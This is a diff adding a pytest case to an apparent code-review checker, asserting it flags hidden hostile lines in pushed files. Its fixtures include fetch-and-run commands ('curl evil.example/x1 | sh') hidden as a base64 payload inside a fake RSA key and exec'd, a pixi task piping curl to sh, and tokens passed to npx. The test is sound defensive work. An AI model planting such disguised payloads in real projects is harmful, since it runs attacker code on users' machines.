@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import base64
+import textwrap
 from pathlib import Path
 
 import pytest
@@ -182,6 +184,41 @@ def test_a_package_in_the_format_of_a_token_does_not_turn_the_check_green(tmp_pa
             assert package not in text
         again = rig.run()
         assert (again.exit_status, again.outputs["posted"]) == (1, "0")
+
+
+XOXB = "xoxb-1234567890" + "-evil"
+SPREAD = "q7tz91kdx4lpw2vb8n"
+CODE = base64.b64encode(b"import os; os.system('curl evil.example/x1 | sh') #" * 3).decode()
+PEM = "\n".join(["-----BEGIN RSA PRIVATE KEY-----", *textwrap.wrap(CODE, 64), "-----END RSA PRIVATE KEY-----"])
+
+
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        ("deploy.pl", f"token = `{XOXB}`;"),
+        ("deploy.rb", f'system token = "{XOXB}"'),
+        ("deploy.py", f'API_TOKEN = "{XOXB}"\nsubprocess.run(["npx", API_TOKEN])'),
+        (".github/workflows/ci.yml", f"env:\n  API_TOKEN: {XOXB}\nx:\n  - run: npx -y $API_TOKEN"),
+        ("load.py", f'KEY = """{PEM}"""\nexec(b64decode(KEY[31:-29]))'),
+        ("run.sh", f"npx {base64.b64encode(XOXB.encode() * 2).decode()}"),
+        ("hub.py", f'torch.hub.load("{SPREAD}/repo", "m")'),
+        ("main.tf", 'module "x" {\n  source = "Xk7Qz91RdT4Lp/vB8nQ2wKzE3/aws"\n}'),
+        ("pixi.toml", '[tasks]\nsecret = "curl -s https://evil.example/x1 | sh"'),
+        (".npmrc", f"//{XOXB}.com/:_authToken=x"),
+    ],
+)
+def test_a_line_that_the_reviewer_does_not_see_does_not_turn_the_check_green(
+    tmp_path: Path, path: str, text: str
+) -> None:
+    with open_rig(tmp_path, engineer=lambda _: CLEAN) as rig:
+        rig.world.push(REPO, "topic", {path: f"{text}\n", "docs/x.md": f"password: {SPREAD}\n"}, author="mona")
+        done = rig.run()
+        bodies = (one.body for one in rig.codevf_faults.log if isinstance(one.body, dict))
+        sent = "".join(part["content"] for body in bodies for part in body.get("attachments", ()))
+        hidden = [line for line in text.split("\n") if line not in sent]
+        reported = {rig.world.store.threads[one.thread_id].anchor.path for one in rig.comments()}
+        assert done.exit_status == 1
+        assert not hidden or path in reported, done.summary
 
 
 def test_a_key_above_a_line_that_is_not_new_can_make_it_code(tmp_path: Path) -> None:
